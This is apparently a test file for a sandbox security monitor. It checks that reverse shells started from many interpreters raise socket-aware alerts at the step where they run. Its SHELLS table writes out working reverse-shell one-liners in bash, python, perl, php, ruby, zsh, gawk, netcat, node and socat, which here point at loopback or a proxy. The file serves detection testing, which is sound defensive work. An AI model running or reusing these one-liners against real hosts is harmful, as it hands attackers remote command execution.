// Invariant: a reverse shell is named at its step whatever language wired it and whatever became of
// its connection: allowed (a listener on the sandbox's own loopback), refused by the egress proxy
// (the shell's socket leads to the proxy, which refuses what it is sent), or refused by the
// firewall (a port of the proxy's host that is not the proxy). The signals are the socket-aware
// ones (rules/builtin/sockets.yaml): a network socket on a shell's stdin, a relay behind it, or the
// process behind a refused connection. Root only; real interpreters from Debian.
import * as assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { after, before, describe, it } from 'node:test';
import { bash, startGuardWorld, summary, waitForAlerts, type GuardWorld } from '../../testing/guard-world.js';
import type { Sandbox } from '../../sandbox/backend.js';
import { techniqueMatches } from '../../redteam/evaluate.js';

const LISTEN_PORT = 4711;
/** Each builds a one-liner to $H:$P (set by the step's script). */
const SHELLS: Record<string, { bin: string; cmd: string; modes?: readonly Mode[] }> = {
  'bash /dev/tcp': { bin: '/usr/bin/bash', cmd: `bash -c 'bash -i >& /dev/tcp/$H/$P 0>&1'` },
  'python3 socket+dup2': {
    bin: '/usr/bin/python3',
    cmd: `python3 -c 'import socket,os,subprocess;s=socket.socket();s.connect(("'$H'",'$P'));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(["/bin/sh","-i"])'`,
  },
  // A relay: the shell's streams are a pty; the socket stays in python's hands. Not run against the
  // proxy: it hangs up before the relay's socket can be read (see docs/monitoring.md).
  'python3 pty.spawn relay': {
    bin: '/usr/bin/python3',
    cmd: `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("'$H'",'$P'));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'`,
    modes: ['allowed', 'firewall-refused'],
  },
  perl: {
    bin: '/usr/bin/perl',
    cmd: `perl -e 'use Socket;$i="'$H'";$p='$P';socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'`,
  },
  php: { bin: '/usr/bin/php', cmd: `php -r '$sock=fsockopen("'$H'",'$P');exec("/bin/sh -i <&3 >&3 2>&3");'` },
  ruby: { bin: '/usr/bin/ruby', cmd: `ruby -rsocket -e 'c=TCPSocket.new("'$H'",'$P');$stdin.reopen(c);$stdout.reopen(c);$stderr.reopen(c);exec "/bin/sh","-i"'` },
  'zsh ztcp': { bin: '/usr/bin/zsh', cmd: `zsh -c 'zmodload zsh/net/tcp && ztcp $H $P && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'` },
  // Only refused by the firewall here: against the proxy gawk waits to read first, so nothing is
  // sent and nothing refused; allowed, its relay (sh -c per command) was seen in one run of two.
  'gawk /inet': {
    bin: '/usr/bin/gawk',
    modes: ['firewall-refused'],
    cmd: `gawk 'BEGIN{s="/inet4/tcp/0/'$H'/'$P'";while((s |& getline c)>0){while((c |& getline l)>0)print l |& s;close(c)}}'`,
  },
  'busybox nc -e': { bin: '/usr/bin/busybox', cmd: 'busybox nc $H $P -e /bin/sh' },
  node: {
    bin: '/usr/bin/node',
    cmd: `node -e 'const n=require("net"),cp=require("child_process");const s=n.connect('$P',"'$H'",()=>{const sh=cp.spawn("/bin/sh",[]);s.pipe(sh.stdin);sh.stdout.pipe(s);sh.stderr.pipe(s)});s.on("error",()=>process.exit(1))'`,
  },
  'socat exec': { bin: '/usr/bin/socat', cmd: 'socat TCP:$H:$P EXEC:/bin/sh' },
};

type Mode = 'allowed' | 'proxy-refused' | 'firewall-refused';
/** Sets H and P for the mode; the allowed one starts a listener in the sandbox that sends a command. */
function prelude(mode: Mode): string {
  const proxy = 'PH=$(echo "$HTTP_PROXY" | sed -E "s#^http://([^:/]+):([0-9]+).*#\\1#"); PP=$(echo "$HTTP_PROXY" | sed -E "s#^http://([^:/]+):([0-9]+).*#\\2#")';
  switch (mode) {
    case 'allowed':
      return `export H=127.0.0.1 P=${LISTEN_PORT}; (sleep 2; echo id) | timeout 6 busybox nc -l -p ${LISTEN_PORT} >/dev/null & sleep 0.5;`;
    case 'proxy-refused':
      return `${proxy}; export H=$PH P=$PP;`;
    case 'firewall-refused':
      return `${proxy}; export H=$PH P=4712;`;
  }
}

describe('a reverse shell in any language is alerted at its step', { timeout: 600_000 }, () => {
  let world: GuardWorld;
  let sandbox: Sandbox;
  before(async () => {
    world = await startGuardWorld({ policy: { mode: 'monitor' } });
    sandbox = await world.backend.create({});
  });
  after(async () => {
    await sandbox.destroy();
    await world.close();
  });

  for (const [name, { bin, cmd, modes }] of Object.entries(SHELLS)) {
    for (const mode of modes ?? (['allowed', 'proxy-refused', 'firewall-refused'] as const)) {
      it(`${name}, ${mode}`, async () => {
        assert.ok(existsSync(bin), `${bin} is installed (scripts/quickstart.sh installs it)`);
        const r = await bash(sandbox, `${prelude(mode)} timeout 4 ${cmd} </dev/null >/dev/null 2>&1; sleep 0.3; wait; echo ran`);
        assert.match(r.out, /ran/);
        const step = sandbox.info().steps;
        const alerts = await waitForAlerts(world, sandbox, (as) => as.some((a) => a.step === step && a.finding !== true && techniqueMatches('T1059', a.technique) && SOCKET_RULES.has(a.ruleId)), 8_000);
        const mine = alerts.filter((a) => a.step === step);
        assert.ok(
          mine.some((a) => a.finding !== true && techniqueMatches('T1059', a.technique) && SOCKET_RULES.has(a.ruleId)),
          `raised at step ${step}: ${summary(mine)}`,
        );
      });
    }
  }
});

/** The infrastructure rules: a command-line rule alone does not count here. */
const SOCKET_RULES = new Set([
  'socket-stdio-shell', 'socket-stdio-python', 'socket-stdio-javascript', 'socket-stdio-lua', 'socket-stdio-interpreter',
  'socket-relay-shell', 'shell-opened-connection', 'refused-shell-wiring',
]);
